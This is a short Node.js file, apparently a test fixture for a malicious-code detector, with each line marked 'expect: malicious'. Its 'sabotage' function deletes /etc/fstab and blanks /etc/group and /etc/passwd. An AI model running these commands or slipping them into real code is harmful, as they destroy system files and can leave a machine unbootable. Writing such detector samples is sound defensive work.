const fs = require("fs");
const { execSync } = require("child_process");

function sabotage() {
  // expect: malicious
  fs.unlinkSync("/etc/fstab");
  // expect: malicious
  fs.writeFileSync("/etc/group", "");
  // expect: malicious
  execSync("echo > /etc/passwd");
}

module.exports = { sabotage };
